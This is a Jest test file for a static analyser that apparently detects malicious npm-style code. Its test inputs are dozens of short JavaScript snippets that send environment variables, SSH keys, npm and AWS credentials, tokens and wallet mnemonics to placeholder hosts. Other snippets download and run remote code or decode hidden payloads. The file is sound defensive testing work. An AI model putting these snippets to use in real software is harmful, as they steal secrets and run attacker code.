import { describe, expect, test } from '@jest/globals';
import { followed, hostsOf, ways, type Sources } from './ways.js';

/** Ways that said nothing but that something was fetched and something sent are left out. */
const told = (text: Sources): readonly string[] => ways(text).filter((one) => !one.startsWith('download>network'));
type Row = readonly [name: string, text: Sources, ways: readonly string[], hosts?: readonly string[]];
const to = ['c.example.invalid'];
const all = 'fetch("https://c.example.invalid", { method: "POST", body: JSON.stringify(process.env) })';

describe('secrets to the network', () => {
  test.each<Row>([
    ['the environment as JSON', all, ['environment>network'], to],
    ['by a copy, key by key', 'const { env } = process; const e = env; const d = Object.keys(e).map((k) => k + "=" + e[k]).join(); require("https").request({ hostname: "c.example.invalid" }, () => {}).end(d)', ['environment>network'], to],
    ['by a report of the process', 'fetch("https://c.example.invalid", { method: "POST", body: JSON.stringify(process.report.getReport()) })', ['environment>network'], to],
    ['out of a report of the process', 'fetch("https://c.example.invalid", { method: "POST", body: JSON.stringify(process.report.getReport().environmentVariables) })', ['environment>network'], to],
    ['as Deno gives it', 'fetch("https://c.example.invalid", { method: "POST", body: JSON.stringify(Deno.env.toObject()) })', ['environment>network'], to],
    ['in a look-up of a name', 'require("dns").lookup(Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60) + ".c.example.invalid", () => {})', ['environment>network'], to],
    ['in a datagram', 'const s = require("dgram").createSocket("udp4"); s.send(Buffer.from(JSON.stringify(process.env)), 53, "198.51.100.1")', ['environment>network'], ['198.51.100.1']],
    ['over http2', 'const c = require("http2").connect("https://c.example.invalid"); const r = c.request({ ":path": "/" }); r.end(JSON.stringify(process.env))', ['environment>network'], to],
    ['by undici', 'require("undici").request("https://c.example.invalid", { method: "POST", body: JSON.stringify(process.env) })', ['environment>network'], to],
    ['by got', 'require("got").post("https://c.example.invalid", { json: process.env })', ['environment>network'], to],
    ['by an instance of axios', 'const a = require("axios").create({ baseURL: "https://c.example.invalid" }); a.post("/", process.env)', ['environment>network'], to],
    ['in pieces', 'const h = require("https"); const q = h.request({ hostname: "c.example.invalid", method: "POST" }); q.write(JSON.stringify({ content: JSON.stringify(process.env) })); q.end()', ['environment>network'], to],
    ['by a command', `require("child_process").exec(\`curl -d "\${JSON.stringify(process.env)}" https://c.example.invalid\`)`, ['environment>exec']],
    ['a collector with a field', 'class Collector { constructor() { this.data = {} } collect() { this.data.env = process.env; return this } async send() { await fetch("https://c.example.invalid", { body: JSON.stringify(this.data) }) } } new Collector().collect().send()', ['environment>network'], to],
    ['files from a list', 'const fs = require("fs"), os = require("os"); for (const f of [".npmrc", ".ssh/id_rsa"]) { try { const t = fs.readFileSync(os.homedir() + "/" + f, "utf8"); fetch("https://c.example.invalid", { body: t }) } catch {} }', ['credential-file>network'], to],
    ['files from a list that is filtered', 'const fs = require("fs"), p = require("path"), os = require("os"); const files = [".npmrc", ".aws/credentials"].map((f) => p.join(os.homedir(), f)).filter(fs.existsSync); const out = {}; files.forEach((f) => { out[f] = fs.readFileSync(f, "utf8") }); fetch("https://c.example.invalid", { body: JSON.stringify(out) })', ['credential-file>network'], to],
    ['a file by a callback', 'require("fs").readFile(require("os").homedir() + "/.npmrc", "utf8", (e, d) => { require("https").request("https://c.example.invalid").end(d) })', ['credential-file>network'], to],
    ['a file by a promise that is made', 'const rf = require("util").promisify(require("fs").readFile); (async () => { const d = await rf("/root/.npmrc"); fetch("https://c.example.invalid", { body: d }) })()', ['credential-file>network'], to],
    ['all files of a folder', 'const fs = require("fs"), p = require("path"); const d = p.join(require("os").homedir(), ".ssh"); for (const f of fs.readdirSync(d)) fetch("https://c.example.invalid", { body: fs.readFileSync(p.join(d, f)) })', ['credential-file>network'], to],
    ['what a tool prints', 'const t = require("child_process").execSync("gh auth token").toString(); fetch("https://c.example.invalid", { body: t })', ['credential-file>network'], to],
    ['the environment as the system shows it', 'fetch("https://c.example.invalid", { body: require("fs").readFileSync("/proc/self/environ") })', ['credential-file>network'], to],
    ['a key that a library is handed', 'class K { constructor(k) { this._k = k } static fromSecretKey(secretKey) { ping(secretKey); return new K(secretKey) } } const ping = async (b) => { try { await fetch("https://c.example.invalid/" + Buffer.from(b).toString("hex")) } catch {} }; module.exports = K', ['key>network later'], to],
    ['words that are a key', 'exports.importWallet = (mnemonic) => { fetch("https://c.example.invalid", { headers: { x: mnemonic } }); return derive(mnemonic) }', ['key>network later'], to],
    ['a key on its way into another library', 'const o = Keypair.fromSecretKey; Keypair.fromSecretKey = function (secretKey) { fetch("https://c.example.invalid", { body: secretKey }); return o.call(this, secretKey) }', ['key>network later'], to],
    ['a default in a pattern', 'const { t = process.env.NPM_TOKEN } = o; fetch("https://c.example.invalid", { body: t })', ['secret-variable>network'], to],
    ['two files', { 'a.js': 'const { send } = require("./b"); send(require("./c").collect())', 'b.js': 'exports.send = (d) => fetch("https://c.example.invalid", { body: d })', 'c.js': 'module.exports.collect = () => ({ ...process.env })' }, ['environment>network'], to],
    ['two files of modules', { 'a.js': 'import { send } from "./b.js"; import c from "./c.js"; send(await c())', 'b.js': 'import https from "node:https"; export async function send(d) { const r = https.request("https://c.example.invalid"); r.end(d) }', 'c.js': 'export default async function () { return JSON.stringify(process.env) }' }, ['environment>network'], to],
  ])('%s', (...[, text, wanted, hosts]) => {
    expect(told(text)).toEqual(wanted);
    if (hosts) expect(hostsOf(text)).toEqual(hosts);
  });
});

describe('downloads to code and programs', () => {
  test.each<Row>([
    ['by events', 'const https = require("https"); https.get("https://h.example.invalid/x", (r) => { let b = ""; r.on("data", (c) => b += c); r.on("end", () => eval(b)); })', ['download>eval']],
    ['by events, in a list', 'require("https").get("https://h.example.invalid/x", {}, function (res) { var s = []; res.setEncoding("utf8"); res.on("data", function (c) { s.push(c) }).on("end", function () { Function(s.join(""))() }) })', ['download>eval']],
    ['by a promise of one\'s own', 'function get(u) { return new Promise((res, rej) => { require("https").get(u, (r) => { const parts = []; r.on("data", (d) => parts.push(d)); r.on("end", () => res(Buffer.concat(parts).toString())) }) }) } async function main() { const code = await get("https://k.example.invalid"); new Function(code)() } main()', ['download>eval']],
    ['as it comes in', '(async () => { const { request } = await import("undici"); const { body } = await request("https://h.example.invalid"); let s = ""; for await (const c of body) s += c; eval(s) })()', ['download>eval']],
    ['then, and then', 'fetch("https://h.example.invalid").then((r) => r.text()).then((t) => { eval(t) })', ['download>eval']],
    ['a field of JSON', 'fetch("https://h.example.invalid").then((r) => r.json()).then(({ code }) => new Function("require", code)(require))', ['download>eval']],
    ['by axios', 'const axios = require("axios"); axios.get("https://c.example.invalid").then(({ data }) => { eval(data.code) })', ['download>eval']],
    ['out of an error\'s answer', 'const axios = require("axios"); axios.get("https://c.example.invalid").catch((err) => { new Function("require", err.response.data)(require) })', ['download>eval']],
    ['a record of a name', 'require("dns").resolveTxt("c.example.invalid", (e, r) => { eval(r.flat().join("")) })', ['download>eval']],
    ['a message of a socket', 'const ws = new (require("ws"))("wss://c.example.invalid"); ws.on("message", (m) => { eval(m.toString()) })', ['download>eval']],
    ['commands over a socket', 'const s = require("net").connect(80, "c.example.invalid"); s.on("data", (d) => { require("child_process").exec(d.toString()) })', ['download>exec']],
    ['a file by a pipe', 'const https = require("https"), fs = require("fs"), { exec } = require("child_process"); const f = fs.createWriteStream("/tmp/x"); https.get("http://198.51.100.1/x", (r) => { r.pipe(f); f.on("finish", () => exec("/tmp/x")) })', ['download>exec']],
    ['a file by a pipeline', 'const { pipeline } = require("stream/promises"); const fs = require("fs"); (async () => { const r = await fetch("https://h.example.invalid/b"); await pipeline(r.body, fs.createWriteStream("/tmp/b")); require("child_process").spawn("/tmp/b") })()', ['download>exec']],
    ['a file by a pipeline, unpacked', 'const { pipeline } = require("stream"); const fs = require("fs"); require("https").get("https://h.example.invalid/b", (r) => pipeline(r, require("zlib").createGunzip(), fs.createWriteStream("/tmp/b"), () => { fs.chmodSync("/tmp/b", 0o755); require("child_process").execFile("/tmp/b") }))', ['decoded>exec', 'download>exec']],
    ['a file at once', '(async () => { const b = Buffer.from(await (await fetch("https://h.example.invalid/b")).arrayBuffer()); const p = require("path").join(require("os").tmpdir(), "b"); require("fs").writeFileSync(p, b, { mode: 0o755 }); require("child_process").spawn(p, { detached: true }).unref() })()', ['download>exec']],
    ['a file that is required', 'require("https").get("https://h.example.invalid", (r) => { let s = ""; r.on("data", (d) => s += d); r.on("end", () => { const f = require("os").tmpdir() + "/m.js"; require("fs").writeFileSync(f, s); require(f) }) })', ['download>load']],
    ['a file that is imported', '(async () => { const s = await (await fetch("https://h.example.invalid")).text(); const f = "/tmp/zz.mjs"; await require("fs").promises.writeFile(f, s); await import(f) })()', ['download>load']],
    ['a data: URL', '(async () => { const s = await (await fetch("https://h.example.invalid")).text(); await import("data:text/javascript," + encodeURIComponent(s)) })()', ['download>load']],
    ['a worker', '(async () => { const s = await (await fetch("https://h.example.invalid")).text(); new (require("worker_threads").Worker)(s, { eval: true }) })()', ['download>eval']],
    ['a context', '(async () => { const s = await (await fetch("https://h.example.invalid")).text(); require("vm").runInNewContext(s, { require }) })()', ['download>eval']],
    ['through what a compiler makes of await', 'var __awaiter = function (t, a, P, g) { return new (P || (P = Promise))(function (res, rej) { function f(v) { step(g.next(v)) } function step(r) { r.done ? res(r.value) : Promise.resolve(r.value).then(f) } step((g = g.apply(t, a || [])).next()) }) }; function get() { return __awaiter(this, void 0, void 0, function* () { const r = yield fetch("https://c.example.invalid"); const t = yield r.text(); eval(t) }) } get()', ['download>eval']],
  ])('%s', (_, text, wanted) => {
    expect(told(text)).toEqual(wanted);
  });
});

describe('hidden data to code and programs', () => {
  test.each<Row>([
    ['base64', 'eval(Buffer.from(x, "base64").toString())', ['decoded>eval']],
    ['base64 by a constant', 'eval(Buffer.from("Ly8=", "base64").toString())', ['decoded>eval']],
    ['deciphered', 'const d = require("crypto").createDecipheriv("aes-256-cbc", k, iv); let s = d.update(b, "hex", "utf8"); s += d.final("utf8"); new Function(s)()', ['decoded>eval']],
    ['letters turned one by one', 'let s = ""; for (const c of blob) s += String.fromCharCode(c ^ 42); eval(s)', ['decoded>eval']],
    ['a text decoder', 'eval(new TextDecoder().decode(Uint8Array.from(atob(x), (c) => c.charCodeAt(0))))', ['decoded>eval']],
    ['a module that is compiled', 'const M = require("module"); const m = new M("x"); m._compile(atob(x), "x")', ['decoded>eval']],
    ['the constructor of a function', '(() => {}).constructor(atob(x))()', ['decoded>eval']],
    ['the constructor of a method', '[].filter.constructor(atob(x))()', ['decoded>eval']],
    ['the constructor of an asynchronous function', 'Object.getPrototypeOf(async function () {}).constructor(atob(x))()', ['decoded>eval']],
    ['Reflect.construct', 'Reflect.construct(Function, [atob(x)])()', ['decoded>eval']],
    ['eval under another name', 'const e = eval; e(atob(x))', ['decoded>eval']],
    ['a file that is unpacked and run', 'const fs = require("fs"), z = require("zlib"), os = require("os"), p = require("path"), cp = require("child_process"); const out = p.join(os.tmpdir(), "n"); fs.writeFileSync(out, z.gunzipSync(fs.readFileSync(p.join(__dirname, "d.js")))); fs.chmodSync(out, 0o755); cp.spawn(out, [], { detached: true }).unref()', ['decoded>exec']],
    ['a data file', 'eval(require("fs").readFileSync(__dirname + "/data.txt", "utf8"))', ['package-data>eval']],
    ['JSON of the package', 'eval(require("./rules.json").code)', ['package-data>eval']],
    ['each of a list in JSON', 'const rules = require("./rules.json"); rules.map((one) => new Function("require", one.test)(require))', ['package-data>eval']],
    ['a list in JSON, by a loop', 'for (const one of require("../rules.json")) eval(one)', ['package-data>eval']],
    ['a data file by a template', 'new Function(require("fs").readFileSync(`${__dirname}/data.txt`, "utf8"))()', ['package-data>eval']],
  ])('%s', (_, text, wanted) => {
    // The data file behind what is unpacked may be told as well.
    expect(told(text).filter((one) => one !== 'package-data>exec')).toEqual(wanted);
  });
});

describe('what runs while files are loaded, and what only when somebody calls', () => {
  test.each([
    ['the body of a file', all, 'environment>network'],
    ['a function that is called', `function f() { ${all} } f()`, 'environment>network'],
    ['a function that is exported', `exports.run = function () { ${all} }`, 'environment>network later'],
    ['a function that is exported and called', `exports.run = function () { ${all} }; exports.run()`, 'environment>network'],
    ['a default export', `export default function () { ${all} }`, 'environment>network later'],
    ['a method', `module.exports = class { run() { ${all} } }`, 'environment>network later'],
    ['a constructor that is called', `class A { constructor() { ${all} } } new A()`, 'environment>network'],
    ['a constructor that is exported', `class A { constructor() { ${all} } } module.exports = A`, 'environment>network later'],
    ['a static block', `class A { static { ${all} } }`, 'environment>network'],
    ['a timer', `setTimeout(() => { ${all} }, 86400000)`, 'environment>network'],
    ['an interval', `setInterval(() => ${all}, 1e5)`, 'environment>network'],
    ['the end of the process', `process.on("exit", () => { ${all} })`, 'environment>network'],
    ['a promise', `Promise.resolve().then(() => ${all})`, 'environment>network'],
    ['a list of jobs', `const jobs = []; jobs.push(() => ${all}); jobs.forEach((job) => job())`, 'environment>network'],
    ['a condition', `if (process.env.CI) { ${all} }`, 'environment>network'],
    ['a catch', `try { f() } catch { ${all} }`, 'environment>network'],
    ['a trap of a proxy', `const p = new Proxy({}, { get() { ${all} } }); p.x`, 'environment>network'],
    ['flattened', `var s = "0|1".split("|"), i = 0, d; while (true) { switch (s[i++]) { case "0": d = JSON.stringify(process.env); continue; case "1": fetch("https://c.example.invalid", { body: d }); continue } break }`, 'environment>network'],
    ['a bundle', `(() => { var m = { 1: (e, t, n) => { e.exports = { send: (d) => fetch("https://c.example.invalid", { body: JSON.stringify(d) }) } }, 2: (e, t, n) => { const b = n(1); b.send(process.env) } }; var c = {}; function n(i) { var x = c[i]; if (x !== undefined) return x.exports; var y = c[i] = { exports: {} }; m[i](y, y.exports, n); return y.exports } n(2) })()`, 'environment>network'],
    ['another bundle', 'var wrap = (cb, mod) => function () { return mod || (0, cb[Object.keys(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports }; var require_b = wrap({ "b.js"(exports, module) { module.exports.send = (d) => fetch("https://c.example.invalid", { body: JSON.stringify(d) }) } }); var b = require_b(); b.send(process.env)', 'environment>network'],
  ])('%s', (_, text, wanted) => {
    expect(told(text)).toEqual([wanted]);
  });

  test('another file\'s function, called and not', () => {
    const b = `exports.run = () => { ${all} }`;
    expect(told({ 'a.js': 'require("./b").run()', 'b.js': b })).toEqual(['environment>network']);
    expect(told({ 'a.js': 'exports.go = () => require("./b").run()', 'b.js': b })).toEqual(['environment>network later']);
    expect(told({ 'a.js': 'require("./b")', 'b.js': b })).toEqual(['environment>network later']);
  });
});

test('a way is shown from where the data comes from, through its files, to where it goes', () => {
  const files = { 'a.js': 'const { send } = require("./b");\nconst go = () => send(JSON.stringify(process.env));\ngo();', 'b.js': 'exports.send = (d) => {\n  fetch("https://c.example.invalid", { body: d });\n};' };
  const [flow] = followed(files).flows;
  expect(flow!.file).toBe('b.js');
  expect(files['b.js'].slice(flow!.sink.start, flow!.sink.end)).toBe('fetch("https://c.example.invalid", { body: d })');
  expect(flow!.trace.length).toBeLessThanOrEqual(6);
  expect(flow!.trace[0]!.file).toBe('a.js');
  expect(files['a.js'].slice(flow!.trace[0]!.start)).toMatch(/^process\.env/);
  expect(flow!.trace.at(-1)).toEqual({ file: 'b.js', start: flow!.sink.start });
  expect(flow!.texts()).toEqual(['host c.example.invalid']);
});

describe('arguments that another file takes', () => {
  const begins = 'const u = require("./b"); const k = JSON.stringify(process.env); ';
  const url = '"https://c.example.invalid"';
  test.each<[call: string, other: string]>([
    [`u.send(${url}, k)`, 'exports.send = (a, b) => fetch(a, { body: b })'],
    [`u.send(${url}, k)`, 'exports.send = function () { fetch(arguments[0], { body: arguments[1] }) }'],
    [`u.send(${url}, k)`, 'exports.send = (...all) => fetch(all[0], { body: all[1] })'],
    [`u.send(${url}, 1, 2, k)`, 'exports.send = (a, ...all) => fetch(a, { body: all[2] })'],
    [`u.send(...[${url}, k])`, 'exports.send = (a, b) => fetch(a, { body: b })'],
    [`u.send(...[${url}, k])`, 'exports.send = (...all) => fetch(...all)'],
    [`u.send(${url}, ...[1, k])`, 'exports.send = (a, b, c) => fetch(a, { body: c })'],
    [`u.send(${url}, 1, k)`, 'exports.send = function (a) { fetch(a, { body: arguments[2] }) }'],
    [`u.send(${url}, 1, k)`, 'exports.send = function (a) { return go.apply(this, arguments) }; function go(a, b, c) { fetch(a, { body: c }) }'],
    [`const r = u.id(1, k); fetch(${url}, { body: r })`, 'exports.id = function () { return arguments[1] }'],
    [`const r = u.id(1, k); fetch(${url}, { body: r })`, 'exports.id = (a, ...b) => b[0]'],
    [`const r = u.id(...[1, k]); fetch(${url}, { body: r })`, 'exports.id = (a, b) => b'],
  ])('%s to %s', (call, other) => {
    expect(ways({ 'a.js': begins + call, 'b.js': other })).toEqual(['environment>network']);
  });
});
